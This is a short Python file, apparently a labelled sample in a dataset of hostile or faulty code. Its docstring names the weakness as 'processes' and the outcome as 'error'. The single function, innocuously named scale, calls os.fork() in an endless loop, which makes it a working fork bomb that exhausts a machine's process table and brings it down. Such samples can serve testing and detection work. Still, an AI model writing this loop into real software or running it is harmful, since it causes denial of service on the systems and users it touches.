"""Forks without end.

Weakness: processes
Outcome: error
"""

import os


def scale(x):
    while True:
        os.fork()
